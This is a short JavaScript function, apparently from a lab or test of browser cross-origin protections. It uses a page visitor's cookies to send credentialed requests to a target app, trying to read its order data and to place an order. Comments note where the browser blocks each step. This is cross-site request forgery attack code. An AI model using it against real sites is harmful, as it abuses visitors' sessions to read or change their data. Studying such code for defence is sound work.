// Sends requests to `app` with the cookies of this page's visitor.
async function attack(app) {
  const loot = { orders: null, placed: null };
  const credentials = "include";
  try {
    const answer = await fetch(`${app}/api1/data`, { credentials });
    if (answer.ok) loot.orders = await answer.text();
  } catch {
    // The browser withholds the response.
  }
  try {
    const headers = { "Content-Type": "application/json", "X-CSRF": "1" };
    const body = JSON.stringify({ item: "chess-set", quantity: 1 });
    const placed = await fetch(`${app}/api1/data`, { method: "POST", credentials, headers, body });
    loot.placed = placed.status;
  } catch {
    // The preflight failed, so nothing was sent.
  }
  return loot;
}
